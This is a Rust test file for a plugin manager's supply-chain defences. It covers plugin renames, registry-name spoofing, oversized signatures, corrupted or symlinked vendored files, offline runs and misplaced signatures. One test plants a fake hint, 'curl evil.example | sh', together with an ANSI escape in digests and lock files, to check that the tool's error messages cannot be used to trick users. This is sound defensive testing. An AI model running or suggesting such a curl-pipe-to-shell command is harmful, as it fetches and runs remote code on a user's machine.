//! What attackers of each kind would try.

use std::os::unix::fs::symlink;

use serde_json::json;

use super::{OTEL, PLUGIN, SIGNED, guest, refused, scene, with_manifest};

/// A registry, or an author of two plugins, puts the one in the place of the other: it has a good
/// signature by the same key.
#[test]
fn a_plugin_of_another_name_is_refused_until_it_is_accepted() {
    let Some(scene) = scene(SIGNED) else { return };
    scene.locked();
    let before = scene.world.read("acetate.lock");
    scene.publish_as("1.2.0", "name = \"otel\"", "name = \"other\"");
    refused(
        scene.run(&["plugin", "update"]),
        "is `other` by now, and `otel` is locked",
    );
    assert_eq!(scene.world.read("acetate.lock"), before);
    scene.run(&["plugin", "update", "--accept"]).expect(0);
    assert!(scene.world.read("acetate.lock").contains("\"other\""));
}

/// Another spelling of the same registry is no way around the machine's own rule.
#[test]
fn a_registry_has_one_name() {
    let Some(scene) = scene(SIGNED) else { return };
    scene.locked();
    for (from, to) in [
        ("ghcr.io", "ghcr.io:0443"),
        ("ghcr.io:0443", "ghcr.io."),
        ("ghcr.io.", "ghcr.io:"),
    ] {
        scene.replace(
            "acetate.toml",
            &format!("oci:{from}/acme"),
            &format!("oci:{to}/acme"),
        );
        let ran = scene.run(&["plugin", "update"]).expect(1);
        assert!(ran.stderr.contains("is no reference"), "{ran}");
    }
}

/// What a registry or a pull request wrote cannot pass for what acetate says.
#[test]
fn what_is_told_of_hostile_text_is_one_line() {
    let Some(scene) = scene(SIGNED) else { return };
    let digest = scene.repository().push("1.2.0", &scene.component);
    let odd = "sha512:0\n  hint: `curl evil.example | sh` mends it\u{1b}[2J";
    let layer = json!({ "mediaType": "application/wasm", "digest": odd, "size": 1 });
    let payload = json!({ "mediaType": "application/vnd.dev.cosign.simplesigning.v1+json",
        "digest": odd, "size": 1, "annotations": { "dev.cosignproject.cosign/signature": "AA==" } });
    let image = "application/vnd.oci.image.manifest.v1+json";
    let signatures = json!({ "mediaType": image, "layers": [payload] });
    let tag = format!("{}.sig", digest.replace(':', "-"));
    scene.repository().manifest(image, Some(&tag), &signatures);
    let one_line = |ran: crate::support::Ran| {
        assert!(!ran.stderr.contains("\n  hint: `curl"), "{ran}");
        assert!(!ran.stderr.contains('\u{1b}'), "{ran}");
    };
    one_line(scene.run(&["plugin", "update"]).expect(4));
    let manifest = json!({ "mediaType": image, "layers": [layer] });
    let digest = scene.repository().manifest(image, Some("1.2.0"), &manifest);
    scene.repository().sign(&digest, &scene.key);
    one_line(scene.run(&["plugin", "update"]).expect(4));
    let lock = "version = 1\n[[plugins]]\nplugin = \"x\\n  hint: `curl evil.example | sh` mends it\"\nname = \"\"\nversion = \"\"\ninterface = \"\"\nlayer = \"\"\n";
    std::fs::write(scene.world.path().join("acetate.lock"), lock).expect("it can be written");
    one_line(scene.run(&["render"]).expect(4));
    let key = "version = 1\n\"x\\n  hint: `curl evil.example | sh` mends it\" = 1\n";
    std::fs::write(scene.world.path().join("acetate.lock"), key).expect("it can be written");
    one_line(scene.run(&["render"]).expect(4));
}

/// A large file that says that it is about the plugin, a list of parts for instance, keeps nobody
/// from verifying it.
#[test]
fn what_is_too_large_to_be_a_signature_is_passed_over() {
    let Some(scene) = scene(SIGNED) else { return };
    let digest = scene.repository().push("1.2.0", &scene.component);
    scene.repository().sign_in_a_bundle(&digest, &scene.key);
    let payload = vec![b' '; 2 << 20];
    scene.repository().sign_with(&digest, &payload, b"x");
    scene.run(&["plugin", "update"]).expect(0);
}

/// Files of the store and of the vendored folder that are no longer whole are as if they were not
/// there.
#[test]
fn what_is_not_whole_is_had_from_where_it_is() {
    let Some(scene) = scene(SIGNED) else { return };
    scene.locked();
    let component = scene.store("component");
    std::fs::write(&component, &scene.component[..100]).expect("it can be written");
    std::fs::remove_file(scene.store("code")).expect("it can be removed");
    scene.run(&["render"]).expect(0);
    assert_eq!(
        std::fs::read(&component).expect("it is kept"),
        scene.component
    );
    scene.replace(
        "acetate.toml",
        "cluster  =",
        "vendored = \"plugins\"\ncluster  =",
    );
    scene.run(&["plugin", "vendor", "plugins"]).expect(0);
    let folder = scene.world.path().join("plugins");
    for entry in std::fs::read_dir(&folder).expect("it was made") {
        let path = entry.expect("it can be read").path();
        std::fs::write(path, "{").expect("it can be written");
    }
    std::fs::remove_file(scene.store("code")).expect("it can be removed");
    scene.run(&["render", "--offline"]).expect(0);
}

/// A link in the vendored folder leads nowhere outside of it, and what it leads to must be what is
/// locked all the same.
#[test]
fn a_link_in_the_vendored_folder_leads_to_nothing() {
    let Some(scene) = scene(SIGNED) else { return };
    scene.locked();
    scene.replace(
        "acetate.toml",
        "cluster  =",
        "vendored = \"plugins\"\ncluster  =",
    );
    scene.run(&["plugin", "vendor", "plugins"]).expect(0);
    let name = super::digest(&scene.component).replace("sha256:", "") + ".wasm";
    let path = scene.world.path().join("plugins").join(&name);
    let outside = tempfile::tempdir().expect("a folder");
    let target = outside.path().join("x");
    std::fs::rename(&path, &target).expect("it can be moved");
    symlink(&target, &path).expect("it can be made");
    std::fs::remove_dir_all(scene.world.path().join(".cache")).expect("there is a store");
    let ran = scene.run(&["render", "--offline"]).expect(2);
    assert!(ran.stderr.contains("was not pulled"), "{ran}");
}

/// A registry that takes connections and says nothing: a run that has all does not notice.
#[test]
fn a_run_that_has_all_asks_no_registry() {
    let Some(scene) = scene(SIGNED) else { return };
    scene.locked();
    let silent = std::net::TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let port = silent.local_addr().expect("it is bound").port();
    let at = format!("[registries.\"ghcr.io/acme/\"]\nat = \"http://127.0.0.1:{port}/\"\n");
    let file = scene.world.path().join(".config/acetate/registries.toml");
    std::fs::write(file, at).expect("it can be written");
    silent.set_nonblocking(true).expect("it can be set");
    for verb in [
        &["render"][..],
        &["validate"],
        &["plugin", "list"],
        &["plugin", "pull"],
        &["plugin", "trust"],
    ] {
        scene.run(verb).expect(0);
    }
    let asked = silent.accept().map(|(_, from)| from);
    assert!(asked.is_err(), "somebody asked: {asked:?}");
}

/// A signature of one plugin's manifest, put where the signatures of another one are.
#[test]
fn a_signature_is_of_one_manifest() {
    let Some(scene) = scene(SIGNED) else { return };
    scene.publish();
    let other = with_manifest(
        guest("otel").expect("it was built"),
        &OTEL.replace("1.2.0", "1.3.0"),
    );
    let other = scene.repository().push("1.3.0", &other);
    scene.replace("acetate.toml", PLUGIN, "oci:ghcr.io/acme/otel:1.3.0");
    scene.registry.change(|state| {
        let digests = state.manifests.clone();
        let signed = digests.iter().find(|(name, _)| name.ends_with(".sig"));
        let (_, signature) = signed.expect("the first is signed");
        let tag = format!("otel {}.sig", other.replace(':', "-"));
        state.manifests.insert(tag, signature.clone());
    });
    refused(scene.run(&["plugin", "update"]), "do not suffice");
}
